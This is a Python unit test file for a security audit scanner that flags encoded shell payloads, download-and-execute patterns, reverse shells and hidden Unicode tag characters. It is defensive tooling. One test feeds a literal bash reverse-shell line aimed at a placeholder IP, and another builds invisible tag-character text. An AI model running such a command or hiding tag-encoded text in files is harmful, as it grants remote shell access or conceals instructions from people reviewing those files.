import os
import sys
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "scripts"))
import audit  # noqa: E402

FIX = os.path.join(os.path.dirname(__file__), "fixtures")


class AuditTests(unittest.TestCase):
    def test_clawhavoc_fixture_is_critical(self):
        rules = {f.rule for f in audit.scan(FIX)}
        self.assertIn("encoded-shell", rules)
        self.assertIn("download-exec(decoded)", rules)
        self.assertIn("archive-password", rules)

    def test_reverse_shell_line(self):
        f = audit.scan_text("x.sh", "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1")
        self.assertTrue(any(x.rule == "reverse-shell" for x in f))

    def test_hidden_tags(self):
        f = audit.scan_text("x.md", "hello" + "".join(chr(0xE0000 + ord(c)) for c in "hi"))
        self.assertTrue(any(x.rule == "hidden-unicode" for x in f))

    def test_clean_text(self):
        self.assertEqual(audit.scan_text("x.md", "# Notes\nJust a normal skill.\n"), [])


if __name__ == "__main__":
    unittest.main()
